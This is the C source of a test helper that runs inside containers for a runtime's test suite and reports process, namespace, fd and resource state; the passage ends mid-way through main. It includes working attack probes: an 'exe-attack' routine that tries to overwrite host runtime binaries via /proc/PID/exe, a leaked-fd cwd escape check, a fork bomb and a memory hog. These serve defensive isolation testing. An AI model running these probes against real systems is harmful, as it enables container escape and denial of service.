/*
 * berth-test-helper: the process that runs INSIDE berth test containers and
 * reports what it sees.  One subcommand per argv[1]; output goes to stdout in
 * simple `key=value` or line form.  Exit status 0 on success, 1 when the
 * probed operation failed (an `error=` line is printed), 2 on usage errors.
 *
 * Plain C11 + GNU extensions, glibc, no other dependencies; meant to be built
 * with -static so it runs in any rootfs (e.g. a busybox bundle).
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>
#include <unistd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/wait.h>

extern char **environ;

/* ---------------------------------------------------------------- utils -- */

static const char *errname(int e)
{
    const char *n = strerrorname_np(e);
    return n ? n : strerror(e);
}

static int fail_errno(const char *what)
{
    int e = errno;
    (void)what;
    printf("error=%s\n", errname(e));
    return 1;
}

static int usage_error(const char *msg)
{
    fprintf(stderr, "berth-test-helper: %s\n", msg);
    return 2;
}

static int parse_long(const char *s, long *out)
{
    char *end;
    errno = 0;
    long v = strtol(s, &end, 0);
    if (errno || end == s || *end)
        return -1;
    *out = v;
    return 0;
}

static void sleep_seconds(double secs)
{
    if (secs < 0)
        secs = 0;
    struct timespec ts;
    ts.tv_sec = (time_t)secs;
    ts.tv_nsec = (long)((secs - (double)ts.tv_sec) * 1e9);
    while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
        ;
}

static double now_monotonic(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Copy a file to stdout.  Returns 0 or sets errno and returns -1. */
static int cat_file(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    char buf[8192];
    for (;;) {
        ssize_t n = read(fd, buf, sizeof buf);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            int e = errno;
            close(fd);
            errno = e;
            return -1;
        }
        if (n == 0)
            break;
        fwrite(buf, 1, (size_t)n, stdout);
    }
    close(fd);
    return 0;
}

/* Read a small file into buf (NUL-terminated, trailing newline stripped). */
static int read_small(const char *path, char *buf, size_t len)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, buf, len - 1);
    int e = errno;
    close(fd);
    if (n < 0) {
        errno = e;
        return -1;
    }
    buf[n] = '\0';
    while (n > 0 && buf[n - 1] == '\n')
        buf[--n] = '\0';
    return 0;
}

/* Print the lines of /proc/self/status whose "Key:" is in keys. */
static int print_status_lines(const char *const *keys)
{
    FILE *f = fopen("/proc/self/status", "re");
    if (!f)
        return fail_errno("open /proc/self/status");
    char *line = NULL;
    size_t cap = 0;
    while (getline(&line, &cap, f) > 0) {
        for (const char *const *k = keys; *k; k++) {
            size_t kl = strlen(*k);
            if (strncmp(line, *k, kl) == 0 && line[kl] == ':') {
                fputs(line, stdout);
                break;
            }
        }
    }
    free(line);
    fclose(f);
    return 0;
}

/* Raw getcwd(2): unlike glibc's wrapper it does not turn "(unreachable)/x"
 * into ENOENT, so a cwd outside the root is visible as such. */
static int raw_getcwd(char *buf, size_t len)
{
    long r = syscall(SYS_getcwd, buf, len);
    return r < 0 ? -1 : 0;
}

static int cmp_int(const void *a, const void *b)
{
    int x = *(const int *)a, y = *(const int *)b;
    return (x > y) - (x < y);
}

/* Sorted list of open fds, excluding the directory stream's own fd. */
static int list_fds(int **out, size_t *count)
{
    DIR *d = opendir("/proc/self/fd");
    if (!d)
        return -1;
    int self = dirfd(d);
    size_t n = 0, cap = 64;
    int *v = malloc(cap * sizeof *v);
    if (!v) {
        closedir(d);
        errno = ENOMEM;
        return -1;
    }
    struct dirent *de;
    while ((de = readdir(d))) {
        if (!isdigit((unsigned char)de->d_name[0]))
            continue;
        int fd = atoi(de->d_name);
        if (fd == self)
            continue;
        if (n == cap) {
            int *nv = realloc(v, (cap *= 2) * sizeof *v);
            if (!nv) {
                free(v);
                closedir(d);
                errno = ENOMEM;
                return -1;
            }
            v = nv;
        }
        v[n++] = fd;
    }
    closedir(d);
    qsort(v, n, sizeof *v, cmp_int);
    *out = v;
    *count = n;
    return 0;
}

/* ---------------------------------------------------------- subcommands -- */

static volatile sig_atomic_t got_signal;

static void on_signal(int sig)
{
    got_signal = sig;
}

static int cmd_pause(void)
{
    /* PID 1 of a pid namespace only receives signals it has handlers for, so
     * install handlers: SIGTERM ends the wait, SIGUSR1/2 and SIGHUP are
     * reported and waiting continues. */
    static const int sigs[] = {SIGTERM, SIGUSR1, SIGUSR2, SIGHUP};
    sigset_t block, old;
    sigemptyset(&block);
    for (size_t i = 0; i < sizeof sigs / sizeof sigs[0]; i++) {
        struct sigaction sa;
        memset(&sa, 0, sizeof sa);
        sa.sa_handler = on_signal;
        sigemptyset(&sa.sa_mask);
        sigaction(sigs[i], &sa, NULL);
        sigaddset(&block, sigs[i]);
    }
    sigprocmask(SIG_BLOCK, &block, &old);
    sigset_t wait = old;
    for (size_t i = 0; i < sizeof sigs / sizeof sigs[0]; i++)
        sigdelset(&wait, sigs[i]);
    for (;;) {
        got_signal = 0;
        sigsuspend(&wait);
        int sig = got_signal;
        if (!sig)
            continue;
        printf("got SIG%s\n", sigabbrev_np(sig));
        fflush(stdout);
        if (sig == SIGTERM)
            return 0;
    }
}

static int cmd_fds(void)
{
    int *v;
    size_t n;
    if (list_fds(&v, &n) < 0)
        return fail_errno("list fds");
    for (size_t i = 0; i < n; i++)
        printf("%s%d", i ? " " : "", v[i]);
    putchar('\n');
    free(v);
    return 0;
}

static int cmd_fdpaths(void)
{
    int *v;
    size_t n;
    if (list_fds(&v, &n) < 0)
        return fail_errno("list fds");
    for (size_t i = 0; i < n; i++) {
        char p[64], target[PATH_MAX];
        snprintf(p, sizeof p, "/proc/self/fd/%d", v[i]);
        ssize_t l = readlink(p, target, sizeof target - 1);
        if (l < 0)
            printf("%d -> error=%s\n", v[i], errname(errno));
        else
            printf("%d -> %.*s\n", v[i], (int)l, target);
    }
    free(v);
    return 0;
}

static int cmd_caps(void)
{
    static const char *const keys[] = {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb",
                                       "NoNewPrivs", "Seccomp", NULL};
    return print_status_lines(keys);
}

static int cmd_signals(void)
{
    static const char *const keys[] = {"SigBlk", "SigIgn", NULL};
    return print_status_lines(keys);
}

static int cmd_ids(void)
{
    int n = getgroups(0, NULL);
    if (n < 0)
        return fail_errno("getgroups");
    gid_t *g = calloc((size_t)n + 1, sizeof *g);
    if (!g)
        return fail_errno("calloc");
    n = getgroups(n, g);
    if (n < 0)
        return fail_errno("getgroups");
    printf("uid=%u gid=%u euid=%u egid=%u groups=", (unsigned)getuid(), (unsigned)getgid(),
           (unsigned)geteuid(), (unsigned)getegid());
    for (int i = 0; i < n; i++)
        printf("%s%u", i ? "," : "", (unsigned)g[i]);
    putchar('\n');
    free(g);
    return 0;
}

static int cmd_cwd(void)
{
    char buf[PATH_MAX + 64];
    if (raw_getcwd(buf, sizeof buf) < 0)
        return fail_errno("getcwd");
    printf("%s\n", buf);
    return 0;
}

static int cmd_hostname(void)
{
    struct utsname u;
    if (uname(&u) < 0)
        return fail_errno("uname");
    printf("hostname=%s\ndomainname=%s\n", u.nodename, u.domainname);
    return 0;
}

static int cmd_env(void)
{
    for (char **e = environ; e && *e; e++)
        printf("%s\n", *e);
    return 0;
}

static int cmd_stat(const char *path)
{
    struct stat st;
    if (lstat(path, &st) < 0)
        return fail_errno("lstat");
    const char *t = "unknown";
    switch (st.st_mode & S_IFMT) {
    case S_IFREG: t = "reg"; break;
    case S_IFDIR: t = "dir"; break;
    case S_IFCHR: t = "chr"; break;
    case S_IFBLK: t = "blk"; break;
    case S_IFLNK: t = "lnk"; break;
    case S_IFIFO: t = "fifo"; break;
    case S_IFSOCK: t = "sock"; break;
    }
    printf("type=%s mode=%04o uid=%u gid=%u rdev=%u:%u\n", t, (unsigned)(st.st_mode & 07777),
           (unsigned)st.st_uid, (unsigned)st.st_gid, major(st.st_rdev), minor(st.st_rdev));
    return 0;
}

static int cmd_read(const char *path)
{
    if (cat_file(path) < 0)
        return fail_errno("read");
    return 0;
}

static int cmd_write(const char *path, const char *text)
{
    /* O_CREAT as well, so new files can be written (e.g. in a tmpfs). */
    int fd = open(path, O_WRONLY | O_TRUNC | O_CREAT | O_CLOEXEC, 0644);
    if (fd < 0)
        return fail_errno("open");
    size_t len = strlen(text), off = 0;
    while (off < len) {
        ssize_t n = write(fd, text + off, len - off);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            int e = errno;
            close(fd);
            errno = e;
            return fail_errno("write");
        }
        off += (size_t)n;
    }
    if (close(fd) < 0)
        return fail_errno("close");
    return 0;
}

static const struct {
    const char *name;
    int res;
} rlimits[] = {
    {"CPU", RLIMIT_CPU},         {"FSIZE", RLIMIT_FSIZE},
    {"DATA", RLIMIT_DATA},       {"STACK", RLIMIT_STACK},
    {"CORE", RLIMIT_CORE},       {"RSS", RLIMIT_RSS},
    {"NPROC", RLIMIT_NPROC},     {"NOFILE", RLIMIT_NOFILE},
    {"MEMLOCK", RLIMIT_MEMLOCK}, {"AS", RLIMIT_AS},
    {"LOCKS", RLIMIT_LOCKS},     {"SIGPENDING", RLIMIT_SIGPENDING},
    {"MSGQUEUE", RLIMIT_MSGQUEUE}, {"NICE", RLIMIT_NICE},
    {"RTPRIO", RLIMIT_RTPRIO},   {"RTTIME", RLIMIT_RTTIME},
};

static void print_rlim(rlim_t v)
{
    if (v == RLIM_INFINITY)
        fputs("unlimited", stdout);
    else
        printf("%llu", (unsigned long long)v);
}

static int cmd_rlimit(const char *name)
{
    if (strncasecmp(name, "RLIMIT_", 7) == 0)
        name += 7;
    for (size_t i = 0; i < sizeof rlimits / sizeof rlimits[0]; i++) {
        if (strcasecmp(name, rlimits[i].name) != 0)
            continue;
        struct rlimit rl;
        if (getrlimit(rlimits[i].res, &rl) < 0)
            return fail_errno("getrlimit");
        print_rlim(rl.rlim_cur);
        putchar(' ');
        print_rlim(rl.rlim_max);
        putchar('\n');
        return 0;
    }
    return usage_error("unknown rlimit name");
}

static int cmd_umask(void)
{
    mode_t m = umask(0);
    umask(m);
    printf("%04o\n", (unsigned)m);
    return 0;
}

static int cmd_tty(void)
{
    printf("isatty0=%d isatty1=%d isatty2=%d\n", isatty(0), isatty(1), isatty(2));
    char name[PATH_MAX];
    int r = ttyname_r(0, name, sizeof name);
    if (r)
        printf("ttyname=error=%s\n", errname(r));
    else
        printf("ttyname=%s\n", name);
    struct winsize ws;
    int fd = -1;
    for (int i = 0; i < 3 && fd < 0; i++)
        if (isatty(i))
            fd = i;
    if (fd < 0)
        fd = 0;
    if (ioctl(fd, TIOCGWINSZ, &ws) < 0)
        printf("winsize=error=%s\n", errname(errno));
    else
        printf("winsize=%u %u\n", (unsigned)ws.ws_row, (unsigned)ws.ws_col);
    return 0;
}

static int cmd_mounts(void)
{
    if (cat_file("/proc/self/mountinfo") < 0)
        return fail_errno("mountinfo");
    return 0;
}

/* --------------------------------------------------------- exe-attack -- */

#define MAX_TARGETS 512

struct target {
    int pid;
    int path_fd;          /* O_PATH fd of /proc/PID/exe, -1 if none */
    int inside;           /* exe is a file of our own root: not a target */
    char last[4][96];     /* last printed line per method */
};

static struct target targets[MAX_TARGETS];
static size_t ntargets;
static int attack_succeeded;

static int is_excluded(int pid, const int *skip, size_t nskip)
{
    for (size_t i = 0; i < nskip; i++)
        if (skip[i] == pid)
            return 1;
    return 0;
}

static struct target *target_for(int pid)
{
    for (size_t i = 0; i < ntargets; i++)
        if (targets[i].pid == pid)
            return &targets[i];
    if (ntargets == MAX_TARGETS)
        return NULL;
    struct target *t = &targets[ntargets++];
    memset(t, 0, sizeof *t);
    t->pid = pid;
    t->path_fd = -1;
    return t;
}

static void report_attempt(struct target *t, int method, const char *open_res,
                           const char *write_res)
{
    static const char *const via[] = {"path", "direct", "reopen", "inside-root"};
    char line[96];
    snprintf(line, sizeof line, "open=%s write=%s", open_res, write_res);
    if (strcmp(line, t->last[method]) == 0)
        return;
    snprintf(t->last[method], sizeof t->last[method], "%s", line);
    printf("pid=%d %s via=%s\n", t->pid, line, via[method]);
    fflush(stdout);
}

/* When set, a successful open for write is followed by writing back the
 * file's own first bytes (read through the held O_PATH fd) instead of the
 * payload: the write still has to succeed, but nothing is damaged. */
static int harmless;

static void try_write_fd(struct target *t, int method, int fd)
{
    static const char payload[] = "#!/bin/sh\necho pwned\n";
    char orig[sizeof payload - 1];
    const char *data = payload;
    size_t len = sizeof payload - 1;
    if (harmless) {
        char self[64];
        snprintf(self, sizeof self, "/proc/self/fd/%d", t->path_fd);
        int rfd = t->path_fd >= 0 ? open(self, O_RDONLY | O_CLOEXEC) : -1;
        ssize_t r = rfd >= 0 ? pread(rfd, orig, sizeof orig, 0) : -1;
        if (rfd >= 0)
            close(rfd);
        if (r <= 0) {
            report_attempt(t, method, "ok", "skipped");
            return;
        }
        data = orig;
        len = (size_t)r;
    }
    ssize_t n = pwrite(fd, data, len, 0);
    if (n == (ssize_t)len) {
        attack_succeeded = 1;
        report_attempt(t, method, "ok", "ok");
    } else {
        report_attempt(t, method, "ok", n < 0 ? errname(errno) : "short");
    }
}

static void attack_pid(struct target *t)
{
    if (t->inside)
        return;
    char exe[64];
    snprintf(exe, sizeof exe, "/proc/%d/exe", t->pid);

    if (t->path_fd < 0) {
        t->path_fd = open(exe, O_PATH | O_CLOEXEC);
        if (t->path_fd < 0) {
            /* Kernel threads / exited processes: ENOENT; protected: EACCES. */
            if (errno != ENOENT && errno != ESRCH)
                report_attempt(t, 0, errname(errno), "skipped");
            return;
        }
        report_attempt(t, 0, "ok", "skipped");
        /* A binary that is reachable at the same path inside our own root
         * (busybox, this helper) is the container's, not the runtime's:
         * overwriting it proves nothing, so leave it alone. */
        char target[PATH_MAX];
        ssize_t l = readlink(exe, target, sizeof target - 1);
        struct stat a, b;
        if (l > 0 && target[0] == '/') {
            target[l] = '\0';
            if (fstat(t->path_fd, &a) == 0 && stat(target, &b) == 0 &&
                a.st_dev == b.st_dev && a.st_ino == b.st_ino)
                t->inside = 1;
        }
        if (t->inside) {
            report_attempt(t, 3, "skipped", "skipped");
            close(t->path_fd);
            t->path_fd = -1;
            return;
        }
    }

    /* Direct open of /proc/PID/exe for writing (ETXTBSY while it runs). */
    int fd = open(exe, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        if (errno != ENOENT && errno != ESRCH)
            report_attempt(t, 1, errname(errno), "skipped");
    } else {
        try_write_fd(t, 1, fd);
        close(fd);
    }

    /* Reopen the held O_PATH fd for writing: succeeds once the target has
     * exited and the binary is no longer busy, unless it is protected. */
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", t->path_fd);
    fd = open(self, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        report_attempt(t, 2, errname(errno), "skipped");
    } else {
        try_write_fd(t, 2, fd);
        close(fd);
    }
}

static size_t collect_ancestors(int *out, size_t max)
{
    size_t n = 0;
    int pid = getpid();
    while (pid > 0 && n < max) {
        out[n++] = pid;
        char path[64], buf[4096];
        snprintf(path, sizeof path, "/proc/%d/status", pid);
        if (read_small(path, buf, sizeof buf) < 0)
            break;
        char *p = strstr(buf, "\nPPid:");
        if (!p)
            break;
        int ppid = atoi(p + 6);
        if (ppid == pid)
            break;
        pid = ppid;
    }
    return n;
}

static int cmd_exe_attack(double seconds)
{
    int skip[256];
    size_t nskip = collect_ancestors(skip, sizeof skip / sizeof skip[0]);
    double deadline = now_monotonic() + seconds;

    do {
        DIR *d = opendir("/proc");
        if (!d)
            return fail_errno("opendir /proc");
        struct dirent *de;
        while ((de = readdir(d))) {
            if (!isdigit((unsigned char)de->d_name[0]))
                continue;
            int pid = atoi(de->d_name);
            if (is_excluded(pid, skip, nskip))
                continue;
            struct target *t = target_for(pid);
            if (t)
                attack_pid(t);
        }
        closedir(d);
        /* Retry targets that have gone away: their held O_PATH fds are the
         * way in once the binary is no longer executing. */
        for (size_t i = 0; i < ntargets; i++) {
            if (targets[i].path_fd < 0)
                continue;
            char self[64];
            snprintf(self, sizeof self, "/proc/%d", targets[i].pid);
            if (access(self, F_OK) == 0)
                continue;
            attack_pid(&targets[i]);
        }
        if (attack_succeeded)
            break;
        struct timespec ts = {0, 500 * 1000}; /* 0.5 ms between scans */
        nanosleep(&ts, NULL);
    } while (now_monotonic() < deadline);

    for (size_t i = 0; i < ntargets; i++)
        if (targets[i].path_fd >= 0)
            close(targets[i].path_fd);
    printf("attack=%s\n", attack_succeeded ? "succeeded" : "failed");
    return 0;
}

/* --------------------------------------------------------- cwd-escape -- */

static int cmd_cwd_escape(void)
{
    char buf[PATH_MAX + 64];
    if (raw_getcwd(buf, sizeof buf) < 0)
        printf("initial_cwd=error=%s\n", errname(errno));
    else
        printf("initial_cwd=%s\n", buf);

    /* Keep a handle on the starting directory well outside 3..64. */
    int home = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (home >= 0) {
        int hi = fcntl(home, F_DUPFD_CLOEXEC, 200);
        close(home);
        home = hi;
    }

    struct stat root;
    int have_root = stat("/", &root) == 0;
    int escapes = 0;
    char list[512] = "";

    for (int n = 3; n <= 64; n++) {
        if (n == home)
            continue;
        char p[64];
        snprintf(p, sizeof p, "/proc/self/fd/%d", n);
        if (chdir(p) < 0)
            continue;
        int outside = 0;
        if (raw_getcwd(buf, sizeof buf) < 0) {
            snprintf(buf, sizeof buf, "error=%s", errname(errno));
            outside = 1;
        } else if (buf[0] != '/') {
            outside = 1; /* "(unreachable)..." */
        } else if (have_root) {
            /* Walk up: a directory inside our root reaches "/" itself. */
            char up[PATH_MAX];
            struct stat st;
            int reached = 0;
            strcpy(up, ".");
            for (int depth = 0; depth < 256 && strlen(up) + 4 < sizeof up; depth++) {
                if (stat(up, &st) < 0)
                    break;
                if (st.st_dev == root.st_dev && st.st_ino == root.st_ino) {
                    reached = 1;
                    break;
                }
                strcat(up, "/..");
            }
            outside = !reached;
        }
        printf("fd=%d cwd=%s outside=%s\n", n, buf, outside ? "yes" : "no");
        if (outside) {
            escapes++;
            size_t l = strlen(list);
            snprintf(list + l, sizeof list - l, "%s%d", l ? "," : "", n);
        }
        if (home >= 0)
            fchdir(home);
    }

    struct stat a, b;
    if (stat("/", &a) == 0 && stat("/..", &b) == 0)
        printf("root_dotdot=%s\n",
               (a.st_dev == b.st_dev && a.st_ino == b.st_ino) ? "same" : "different");
    else
        printf("root_dotdot=error=%s\n", errname(errno));

    if (escapes)
        printf("escape=found fds=%s\n", list);
    else
        printf("escape=none\n");
    if (home >= 0)
        close(home);
    return 0;
}

/* ------------------------------------------------------ memhog, forks -- */

/* Reads PATH with O_DIRECT in 64 KiB blocks for SECS seconds (rewinding at
 * the end) and prints bytes= and secs=: a throttled reader's real rate. */
static int cmd_readbps(const char *path, double secs)
{
    int fd = open(path, O_RDONLY | O_DIRECT | O_CLOEXEC);
    if (fd < 0)
        return fail_errno("open");
    void *buf = NULL;
    if (posix_memalign(&buf, 4096, 65536) != 0)
        return fail_errno("posix_memalign");
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    long long total = 0;
    double el = 0;
    while (el < secs) {
        ssize_t n = read(fd, buf, 65536);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            return fail_errno("read");
        }
        if (n == 0) {
            lseek(fd, 0, SEEK_SET);
            continue;
        }
        total += n;
        clock_gettime(CLOCK_MONOTONIC, &t);
        el = (double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9;
    }
    printf("bytes=%lld\nsecs=%.3f\n", total, el);
    close(fd);
    free(buf);
    return 0;
}

/* Opens PATH with the given mode letters (r, w, rw) and reports it. */
static int cmd_opendev(const char *path, const char *mode)
{
    int flags = !strcmp(mode, "rw") ? O_RDWR : !strcmp(mode, "w") ? O_WRONLY : O_RDONLY;
    int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0)
        return fail_errno("open");
    printf("opened=%s\n", path);
    close(fd);
    return 0;
}

/* Prints a counter that grows every 10 ms into FILE (rewritten in place),
 * forever: a frozen container's counter stops. */
static int cmd_counter(const char *path)
{
    for (long i = 0;; i++) {
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0)
            return fail_errno("open");
        char b[32];
        int n = snprintf(b, sizeof b, "%ld\n", i);
        if (write(fd, b, (size_t)n) < 0)
            return fail_errno("write");
        close(fd);
        struct timespec ts = {0, 10 * 1000 * 1000};
        nanosleep(&ts, NULL);
    }
}

/* Maps N huge pages of 2 MiB and touches them one by one, printing
 * touched=I after each: a hugetlb limit shows as SIGBUS at the fault (or
 * ENOMEM at mmap where reservations are limited too). */
static int cmd_hugetlb(long n)
{
    size_t len = (size_t)n * (2u << 20);
    char *p = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB, -1, 0);
    if (p == MAP_FAILED)
        return fail_errno("mmap");
    for (long i = 0; i < n; i++) {
        p[(size_t)i * (2u << 20)] = 1;
        printf("touched=%ld\n", i + 1);
        fflush(stdout);
    }
    return 0;
}

/* Busy loops in N processes (itself and N-1 children) for SECS seconds. */
static int cmd_spin(long n, double secs)
{
    for (long i = 1; i < n; i++)
        if (fork() == 0)
            break;
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    volatile unsigned long x = 0;
    for (;;) {
        for (int k = 0; k < 100000; k++)
            x++;
        clock_gettime(CLOCK_MONOTONIC, &t);
        if ((double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9 >= secs)
            break;
    }
    while (wait(NULL) > 0)
        ;
    printf("spun=%.1f\n", secs);
    return 0;
}

static int cmd_memhog(long mb)
{
    if (mb < 0)
        return usage_error("memhog: MB must be >= 0");
    const size_t step = 1 << 20;
    long page = sysconf(_SC_PAGESIZE);
    if (page <= 0)
        page = 4096;
    for (long i = 1; i <= mb; i++) {
        char *p = malloc(step);
        if (!p) {
            printf("allocated=%ld\n", i - 1);
            return fail_errno("malloc");
        }
        for (size_t off = 0; off < step; off += (size_t)page)
            p[off] = (char)(i | 1);
        /* deliberately leaked: the memory must stay charged */
        if (i % 16 == 0) {
            printf("allocated=%ld\n", i);
            fflush(stdout);
        }
    }
    printf("done=%ld\n", mb);
    return 0;
}

static int cmd_forkbomb(long n)
{
    if (n < 0)
        return usage_error("forkbomb: N must be >= 0");
    pid_t *kids = calloc((size_t)n + 1, sizeof *kids);
    if (!kids)
        return fail_errno("calloc");
    fflush(stdout);
    long ok = 0;
    int first_err = 0;
    for (long i = 0; i < n; i++) {
        pid_t p = fork();
        if (p < 0) {
            first_err = errno;
            break;
        }
        if (p == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            sleep_seconds(5);
            _exit(0);
        }
        kids[ok++] = p;
    }
    printf("forked=%ld\n", ok);
    printf("first_error=%s\n", first_err ? errname(first_err) : "none");
    fflush(stdout);
    for (long i = 0; i < ok; i++)
        kill(kids[i], SIGKILL);
    for (long i = 0; i < ok; i++)
        while (waitpid(kids[i], NULL, 0) < 0 && errno == EINTR)
            ;
    free(kids);
    return 0;
}

/* ------------------------------------------------------------- others -- */

static int cmd_ns(void)
{
    static const char *const names[] = {"pid", "net", "ipc", "uts", "mnt", "user", "cgroup", "time"};
    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
        char p[64], t[256];
        snprintf(p, sizeof p, "/proc/self/ns/%s", names[i]);
        ssize_t l = readlink(p, t, sizeof t - 1);
        if (l < 0)
            printf("%s=error=%s\n", names[i], errname(errno));
        else
            printf("%s=%.*s\n", names[i], (int)l, t);
    }
    return 0;
}

static int cmd_sysctl(const char *name)
{
    char path[PATH_MAX];
    int n = snprintf(path, sizeof path, "/proc/sys/%s", name);
    if (n < 0 || (size_t)n >= sizeof path)
        return usage_error("sysctl name too long");
    if (!strchr(name, '/'))
        for (char *p = path + strlen("/proc/sys/"); *p; p++)
            if (*p == '.')
                *p = '/';
    if (cat_file(path) < 0)
        return fail_errno("sysctl");
    return 0;
}

static int cmd_personality(void)
{
    int p = personality(0xffffffff);
    if (p < 0)
        return fail_errno("personality");
    printf("personality=0x%x\n", (unsigned)p);
    return 0;
}

static const char *policy_name(int p)
{
    switch (p & ~SCHED_RESET_ON_FORK) {
    case SCHED_OTHER: return "SCHED_OTHER";
    case SCHED_FIFO: return "SCHED_FIFO";
    case SCHED_RR: return "SCHED_RR";
    case SCHED_BATCH: return "SCHED_BATCH";
    case SCHED_IDLE: return "SCHED_IDLE";
#ifdef SCHED_DEADLINE
    case SCHED_DEADLINE: return "SCHED_DEADLINE";
#endif
    }
    return "unknown";
}

static int cmd_sched(void)
{
    int pol = sched_getscheduler(0);
    if (pol < 0)
        printf("policy=error=%s\n", errname(errno));
    else
        printf("policy=%s\n", policy_name(pol));
    struct sched_param sp;
    if (sched_getparam(0, &sp) == 0)
        printf("priority=%d\n", sp.sched_priority);

    errno = 0;
    int nice = getpriority(PRIO_PROCESS, 0);
    if (nice == -1 && errno)
        printf("nice=error=%s\n", errname(errno));
    else
        printf("nice=%d\n", nice);

    cpu_set_t set;
    CPU_ZERO(&set);
    if (sched_getaffinity(0, sizeof set, &set) < 0) {
        printf("affinity=error=%s\n", errname(errno));
    } else {
        fputs("affinity=", stdout);
        int first = 1;
        for (int c = 0; c < CPU_SETSIZE; c++) {
            if (!CPU_ISSET(c, &set))
                continue;
            int e = c;
            while (e + 1 < CPU_SETSIZE && CPU_ISSET(e + 1, &set))
                e++;
            if (e == c)
                printf("%s%d", first ? "" : ",", c);
            else
                printf("%s%d-%d", first ? "" : ",", c, e);
            first = 0;
            c = e;
        }
        putchar('\n');
    }

    long io = syscall(SYS_ioprio_get, 1 /* IOPRIO_WHO_PROCESS */, 0);
    if (io < 0)
        printf("ioprio=error=%s\n", errname(errno));
    else
        printf("ioprio=%ld ioprio_class=%ld ioprio_level=%ld\n", io, io >> 13, io & 0x1fff);
    return 0;
}

static int cmd_oom(void)
{
    char buf[64];
    if (read_small("/proc/self/oom_score_adj", buf, sizeof buf) < 0)
        return fail_errno("oom_score_adj");
    printf("%s\n", buf);
    return 0;
}

static int cmd_keyring(void)
{
    /* keyctl(KEYCTL_GET_KEYRING_ID=0, KEY_SPEC_SESSION_KEYRING=-3, create=0) */
    long id = syscall(SYS_keyctl, 0, -3, 0);
    if (id < 0)
        return fail_errno("keyctl");
    printf("keyring=%ld\n", id);
    /* KEYCTL_DESCRIBE=6: "type;uid;gid;perm;description" */
    char desc[512];
    long n = syscall(SYS_keyctl, 6, id, desc, sizeof desc);
    if (n < 0)
        printf("keyring_desc=error=%s\n", errname(errno));
    else if (n > 0 && (size_t)n <= sizeof desc)
        printf("keyring_desc=%s\n", desc);
    return 0;
}

/* --------------------------------------------------------------- main -- */

static const char usage[] =
    "usage: berth-test-helper COMMAND [ARGS...]\n"
    "  true | exit N | echo ARGS... | sleep SECONDS | pause\n"
    "  fds | fdpaths | caps | ids | cwd | hostname | env | signals\n"
    "  stat PATH | read PATH | write PATH TEXT | rlimit NAME | umask | tty\n"
    "  mounts | ns | sysctl NAME | personality | sched | oom | ppid | pid\n"
    "  keyring | exe-attack [SECONDS [harmless]] | cwd-escape | memhog MB | forkbomb N\n";

int main(int argc, char **argv)
{
    /* Line-buffered even into pipes, so tests see progress promptly. */
    setvbuf(stdout, NULL, _IOLBF, 0);

    if (argc < 2) {
        fputs(usage, stderr);
        return 2;
    }
    const char *cmd = argv[1];
    int nargs = argc - 2;
    char **args = argv + 2;
    long n;

#define NEED(k)                                                   \
    do {                                                          \
        if (nargs < (k))                                          \
            return usage_error("missing argument for subcommand"); \
    } while (0)

    if (!strcmp(cmd, "true"))
        return 0;
    if (!strcmp(cmd, "exit")) {
        NEED(1);
        if (parse_long(args[0], &n) < 0)
            return usage_error("exit: bad number");
        fflush(stdout);
        return (int)(n & 0xff);
    }
    if (!strcmp(cmd, "echo")) {
        for (int i = 0; i < nargs; i++)
            printf("%s%s", i ? " " : "", args[i]);
        putchar('\n');
        return 0;
    }
    if (!strcmp(cmd, "sleep")) {
        NEED(1);
        char *end;
        double s = strtod(args[0], &end);
        if (end == args[0] || *end)
            return usage_error("sleep: bad number");
        sleep_seconds(s);
        return 0;
    }
    if (!strcmp(cmd, "pause"))
        return cmd_pause();
    if (!strcmp(cmd, "fds"))
        return cmd_fds();
    if (!strcmp(cmd, "fdpaths"))
        return cmd_fdpaths();
    if (!strcmp(cmd, "caps"))
        return cmd_caps();
    if (!strcmp(cmd, "ids"))
        return cmd_ids();
    if (!strcmp(cmd, "cwd"))
        return cmd_cwd();
    if (!strcmp(cmd, "hostname"))
        return cmd_hostname();
    if (!strcmp(cmd, "env"))
        return cmd_env();
    if (!strcmp(cmd, "stat")) {
        NEED(1);
        return cmd_stat(args[0]);
    }
    if (!strcmp(cmd, "readbps")) {
        NEED(2);
        return cmd_readbps(args[0], atof(args[1]));
    }
    if (!strcmp(cmd, "opendev")) {
        NEED(2);
        return cmd_opendev(args[0], args[1]);
    }
    if (!strcmp(cmd, "counter")) {
        NEED(1);
        return cmd_counter(args[0]);
    }
    if (!strcmp(cmd, "hugetlb")) {
